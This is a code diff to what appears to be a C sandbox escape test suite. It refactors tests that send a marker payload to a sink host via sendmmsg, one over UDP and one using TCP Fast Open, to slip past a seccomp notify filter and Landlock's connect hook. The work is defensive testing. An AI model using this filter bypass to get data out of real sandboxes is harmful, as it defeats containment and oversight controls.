@@ -290,36 +290,54 @@ static int n02_dup2_race(const struct attack_env *env, struct attack_log *log)
 
 /* ---- N03: sendmmsg, which the filter does not list ------------------ */
 
-static int n03_tfo(const struct attack_env *env, struct attack_log *log)
+/* A socket of `type` and one sendmmsg of the marker payload to the sink's
+ * `port` with `flags`: the syscall platform-notify leaves out. *fd is the
+ * socket (-1: none), *n the payload's length; returns sendmmsg's result
+ * (errno in *err). */
+static int sendmmsg_marker(const struct attack_env *env, struct attack_log *log, int type,
+			   uint16_t port, const char *id, int flags, char *payload, size_t cap,
+			   int *fd, int *n, int *err)
 {
 	struct sockaddr_in sink;
-	char payload[256];
 	struct iovec iov;
 	struct mmsghdr m;
-	int fd, r, err, n;
-	struct pollfd p;
+	int r;
 
-	v4(&sink, env->sink_v4, 443);
-	n = attack_marker_payload(env, "N03", payload, sizeof(payload));
-	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	err = errno;
-	attack_step(log, "socket", fd, err, "AF_INET, SOCK_STREAM, 0");
-	if (fd < 0)
-		return CLAIM_BLOCKED;
+	v4(&sink, env->sink_v4, port);
+	*n = attack_marker_payload(env, id, payload, cap);
+	*fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
+	*err = errno;
+	attack_step(log, "socket", *fd, *err, "AF_INET, %s, 0",
+		    type == SOCK_STREAM ? "SOCK_STREAM" : "SOCK_DGRAM");
+	if (*fd < 0)
+		return -1;
 	iov.iov_base = payload;
-	iov.iov_len = (size_t)n;
+	iov.iov_len = (size_t)*n;
 	memset(&m, 0, sizeof(m));
 	m.msg_hdr.msg_name = &sink;
 	m.msg_hdr.msg_namelen = sizeof(sink);
 	m.msg_hdr.msg_iov = &iov;
 	m.msg_hdr.msg_iovlen = 1;
+	r = sendmmsg(*fd, &m, 1, flags);
+	*err = errno;
+	attack_step(log, "sendmmsg", r, *err, "1 message%s, to %s:%u, the marker",
+		    flags & MSG_FASTOPEN ? ", MSG_FASTOPEN" : "", env->sink_v4, port);
+	return r;
+}
+
+static int n03_tfo(const struct attack_env *env, struct attack_log *log)
+{
+	char payload[256];
+	int fd, r, err, n;
+	struct pollfd p;
+
 	/* TCP Fast Open: an implicit connect inside the send, which
 	 * neither the notify filter (no sendmmsg) nor, on this kernel,
 	 * Landlock's connect hook sees. */
-	r = sendmmsg(fd, &m, 1, MSG_FASTOPEN);
-	err = errno;
-	attack_step(log, "sendmmsg", r, err, "1 message, MSG_FASTOPEN, to %s:443, the marker",
-		    env->sink_v4);
+	r = sendmmsg_marker(env, log, SOCK_STREAM, 443, "N03", MSG_FASTOPEN, payload,
+			    sizeof(payload), &fd, &n, &err);
+	if (fd < 0)
+		return CLAIM_BLOCKED;
 	if (r < 0 && err != EINPROGRESS) {
 		close(fd);
 		return CLAIM_BLOCKED;
@@ -348,29 +366,13 @@ static int n03_tfo(const struct attack_env *env, struct attack_log *log)
 
 static int n03_udp(const struct attack_env *env, struct attack_log *log)
 {
-	struct sockaddr_in sink;
 	char payload[256];
-	struct iovec iov;
-	struct mmsghdr m;
 	int fd, r, err, n;
 
-	v4(&sink, env->sink_v4, 9999);
-	n = attack_marker_payload(env, "N03.udp", payload, sizeof(payload));
-	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
-	err = errno;
-	attack_step(log, "socket", fd, err, "AF_INET, SOCK_DGRAM, 0");
+	r = sendmmsg_marker(env, log, SOCK_DGRAM, 9999, "N03.udp", 0, payload, sizeof(payload), &fd,
+			    &n, &err);
 	if (fd < 0)
 		return CLAIM_BLOCKED;
-	iov.iov_base = payload;
-	iov.iov_len = (size_t)n;
-	memset(&m, 0, sizeof(m));
-	m.msg_hdr.msg_name = &sink;
-	m.msg_hdr.msg_namelen = sizeof(sink);
-	m.msg_hdr.msg_iov = &iov;
-	m.msg_hdr.msg_iovlen = 1;
-	r = sendmmsg(fd, &m, 1, 0);
-	err = errno;
-	attack_step(log, "sendmmsg", r, err, "1 datagram to %s:9999, the marker", env->sink_v4);
 	close(fd);
 	return r == 1 ? CLAIM_UNSURE : CLAIM_BLOCKED; /* only the capture knows */
 }
